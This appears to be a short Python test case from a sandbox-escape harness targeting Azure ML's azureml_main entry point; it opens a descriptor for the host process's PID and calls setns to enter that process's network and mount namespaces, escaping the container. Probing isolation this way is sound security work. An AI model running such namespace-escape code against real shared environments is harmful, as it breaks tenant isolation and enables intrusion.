"""Enters the namespaces of the process that ordered the job by a descriptor of that process."""

from attack import BAIT, attack, c, call


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    process = call("pidfd_open", BAIT["host_pid"], 0)
    c("setns", process, 0x40000000 | 0x8000000)
    return "entered namespaces of the parent"
